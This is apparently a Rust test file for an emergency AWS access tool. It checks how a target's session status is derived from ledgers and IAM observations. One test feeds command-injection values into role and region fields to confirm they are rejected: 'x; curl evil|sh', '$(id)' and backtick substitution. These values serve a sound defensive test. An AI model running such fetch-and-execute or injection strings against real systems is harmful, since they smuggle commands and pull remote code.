//! Tests of a target's status, with and without IAM, after one or several sessions.

use jiff::Timestamp;

use super::last_session::{LastSession, last};
use super::target_status::{ClockSource, ClockTime, RecordedEnd, TargetState, TargetStatus};
use crate::gate::SessionId;
use crate::gate::observed::UserState;
use crate::ledger::record::{Entry, Record};
use crate::vault::manifest::Lane;
use crate::vault::target::TargetId;

fn at(text: &str) -> Timestamp {
    text.parse().expect("an instant")
}

fn target() -> TargetId {
    TargetId {
        name: "prod".into(),
        partition: "aws".into(),
        account: "111122223333".into(),
        user: "emergency".into(),
    }
}

fn session(number: u8) -> SessionId {
    SessionId::from_bytes([number; 8])
}

fn known(until: Option<&str>, closed: bool, lane: Lane) -> LastSession {
    LastSession {
        session: session(1),
        target: target(),
        lane,
        from: None,
        until: until.map(at),
        closed,
        closed_at: closed.then(|| at("2026-11-22T02:20:00Z")),
        region: None,
        role: None,
        earlier: Vec::new(),
    }
}

/// Without IAM, the ledgers never show that access is closed: another machine can have opened a window since.
#[test]
fn the_ledgers_alone_never_show_that_access_is_closed() {
    use TargetState::{Open, Unknown, Unproven};
    let (before, after) = (at("2026-11-22T02:30:00Z"), at("2026-11-22T03:30:00Z"));
    let local = |time| ClockTime { time, clock: ClockSource::Local };
    let end = at("2026-11-22T03:00:00Z");
    let until = Some("2026-11-22T03:00:00Z");
    let recorded = Some(RecordedEnd::Closed { at: Some(at("2026-11-22T02:20:00Z")) });
    let nothing = Some(RecordedEnd::NothingOpened);
    let expired = Some(RecordedEnd::Expired { at: end });
    for (what, last, now, state, shown) in [
        ("no record", None, local(before), Unknown, None),
        ("an opening that wrote nothing", Some((None, false, Lane::Gate)), local(before), Unknown, nothing),
        ("a window", Some((until, false, Lane::Gate)), local(before), Open, None),
        ("a window, after its end", Some((until, false, Lane::Gate)), local(after), Unproven, None),
        ("its end by AWS's clock", Some((until, false, Lane::Gate)), ClockTime::aws(after), Unproven, None),
        ("a close", Some((until, true, Lane::Gate)), local(before), Unknown, recorded),
        (
            "a close, by AWS's clock",
            Some((until, true, Lane::Gate)),
            ClockTime::aws(after),
            Unknown,
            recorded,
        ),
        ("a role session", Some((until, false, Lane::Static)), local(before), Open, None),
        ("its end by a local clock", Some((until, false, Lane::Static)), local(after), Unproven, None),
        ("its end by AWS", Some((until, false, Lane::Static)), ClockTime::aws(after), Unknown, expired),
        ("a closed role session", Some((until, true, Lane::Static)), local(after), Unknown, recorded),
    ] {
        let last = last.map(|(until, closed, lane)| known(until, closed, lane));
        let lane = last.as_ref().map_or(Lane::Gate, |last| last.lane);
        for seen in [None, Some(UserState::Unknown(Vec::new())), Some(UserState::NotAtRest(Vec::new()))] {
            let status = TargetStatus::of(target(), lane, last.as_ref(), seen.as_ref(), now);
            assert_eq!((status.state, status.recorded), (state, shown), "{what}, IAM: {seen:?}");
            assert!(status.may_be_open != Some(false), "{what}: {status:?}");
            assert!(status.state.failure().is_some(), "{what} should not exit 0");
        }
    }
}

#[test]
fn the_worst_target_decides() {
    let status = |seen: UserState| {
        TargetStatus::of(target(), Lane::Gate, None, Some(&seen), ClockTime::aws(at("2026-11-22T02:30:00Z")))
    };
    let (closed, unknown) = (status(UserState::AtRest), status(UserState::Unknown(Vec::new())));
    let (open, untidy) = (status(UserState::Unbounded), status(UserState::Untidy(Vec::new())));
    for (all, worst, may_be_open) in [
        (vec![], None, None),
        (vec![closed.clone()], None, Some(false)),
        (vec![closed.clone(), unknown.clone()], Some(TargetState::Unknown), None),
        (vec![unknown.clone(), untidy.clone()], Some(TargetState::NotAtRest), None),
        (vec![closed, untidy.clone()], Some(TargetState::NotAtRest), Some(false)),
        (vec![unknown, untidy, open], Some(TargetState::Open), Some(true)),
    ] {
        assert_eq!(TargetStatus::worst(&all).map(|worst| worst.state), worst, "{all:?}");
        assert_eq!(TargetStatus::any_may_be_open(&all), may_be_open, "{all:?}");
    }
}

#[test]
fn iam_overrides_the_ledger() {
    let now = at("2026-11-22T02:30:00Z");
    let until = at("2026-11-22T03:00:00Z");
    let open = known(Some("2026-11-22T03:00:00Z"), false, Lane::Gate);
    let now = ClockTime::aws(now);
    let status = |last, seen: UserState| TargetStatus::of(target(), Lane::Gate, last, Some(&seen), now);
    assert!(
        status(Some(&open), UserState::AtRest).may_be_open == Some(false),
        "an open window in the ledger should not count if IAM shows the user at rest"
    );
    let others = status(None, UserState::Open { session: session(2), until });
    assert!(others.may_be_open == Some(true) && !others.this_machine && others.until == Some(until));
    assert!(status(Some(&open), UserState::Open { session: session(1), until }).this_machine);
    let closed = known(Some("2026-11-22T03:00:00Z"), true, Lane::Gate);
    assert_eq!(status(Some(&closed), UserState::NotAtRest(Vec::new())).state, TargetState::Unknown);
    assert_eq!(status(Some(&open), UserState::NotAtRest(Vec::new())).may_be_open, Some(true));
    let untidy = status(Some(&open), UserState::Untidy(Vec::new()));
    assert_eq!((untidy.may_be_open, untidy.state), (Some(false), TargetState::NotAtRest));
}

fn entry(record: Record) -> Entry {
    Entry { v: 1, seq: 0, prev: String::new(), torn: None, at: at("2026-11-22T02:00:00Z"), record }
}

/// Returns T0 of a session. Each session begins one minute after the previous session.
fn t0(number: u8) -> Timestamp {
    at(&format!("2026-11-22T02:{number:02}:00Z"))
}

fn intended(number: u8, until: &str, lane: Lane) -> [Entry; 2] {
    let session = session(number);
    let (from, until) = (t0(number), at(until));
    let intent = Record::Intent {
        session,
        vault: String::new(),
        epoch: 1,
        credentials_epoch: 1,
        sha256: String::new(),
        lane,
        target: target(),
        regions: Vec::new(),
        principals: Box::default(),
        window: 60,
        reason: "x".into(),
        again: None,
        no_alert: None,
        drill_of: None,
        extra_key: None,
        older_epoch: None,
        endpoints: Vec::new(),
        network: None,
    };
    [entry(intent), entry(Record::Window { session, from, until })]
}

/// The text of a ledger is printed in commands, so only text that needs no quotes is kept.
#[test]
fn a_role_or_region_that_is_not_plain_is_not_kept() {
    for (text, kept) in [
        ("arn:aws:iam::111122223333:role/path/Emergency", true),
        ("x; curl evil|sh", false),
        ("$(id)", false),
        ("\u{1b}[2K", false),
        ("a b", false),
        ("`id`", false),
    ] {
        let [mut intent, window] = intended(1, "2026-11-22T03:00:00Z", Lane::Static);
        if let Record::Intent { regions, principals, .. } = &mut intent.record {
            *regions = vec![text.into()];
            principals.role = Some(text.into());
        }
        let last = last(&[intent, window]).remove(0);
        assert_eq!((last.role.is_some(), last.region.is_some()), (kept, kept), "{text:?}");
    }
}

fn closed(number: u8, probed: bool) -> Entry {
    entry(Record::Closed { session: session(number), probed, cause: "x".into() })
}

fn opened(number: u8) -> Entry {
    let (from, until) = (t0(number), at("2026-11-22T03:00:00Z"));
    entry(Record::Opened { session: session(number), from, until })
}

#[test]
fn closing_a_session_that_began_earlier_does_not_close_a_later_session() {
    let until = "2026-11-22T03:00:00Z";
    let earlier = [&intended(1, until, Lane::Gate)[..], &[opened(1), closed(1, true)]].concat();
    let open = [&intended(2, until, Lane::Gate)[..], &[opened(2)]].concat();
    // In the first order, the records of the earlier session come last, as if the clock of its machine were ahead.
    for order in [[&open[..], &earlier[..]].concat(), [&earlier[..], &open[..]].concat()] {
        let last = last(&order).remove(0);
        assert!(last.session == session(2) && !last.closed, "{last:?}");
    }
}

#[test]
fn a_later_session_that_opened_nothing_does_not_hide_an_earlier_session() {
    let now = ClockTime { time: at("2026-11-22T02:30:00Z"), clock: ClockSource::Local };
    let (long, short) = ("2026-11-22T03:00:00Z", "2026-11-22T02:20:00Z");
    for lane in [Lane::Gate, Lane::Static] {
        let status = |more: &[Entry]| {
            let first = intended(1, long, lane).into_iter().chain([opened(1)]);
            let entries: Vec<_> = first.chain(intended(2, short, lane)).chain(more.iter().cloned()).collect();
            let last = last(&entries).remove(0);
            let seen = UserState::Open { session: session(1), until: at(long) };
            let status = TargetStatus::of(target(), lane, Some(&last), Some(&seen), now);
            assert!(status.this_machine, "the ledger has the intents of both sessions");
            TargetStatus::of(target(), lane, Some(&last), None, now)
        };
        let refused = status(&[closed(2, false)]);
        assert_eq!((refused.state, refused.session), (TargetState::Open, Some(session(1))));
        // In the lane `gate`, an opening or a probed close shows that no earlier session is open. In the lane
        // `static`, an opening or a probed close shows nothing about earlier sessions.
        let over = if lane == Lane::Gate { TargetState::Unknown } else { TargetState::Open };
        assert_eq!(status(&[opened(2), closed(2, false)]).state, over);
        assert_eq!(status(&[closed(2, true)]).state, over);
        assert_eq!(status(&[closed(2, false), closed(1, false)]).state, TargetState::Unknown);
        assert_eq!(status(&[closed(2, false), closed(1, false), opened(1)]).state, TargetState::Open);
    }
}
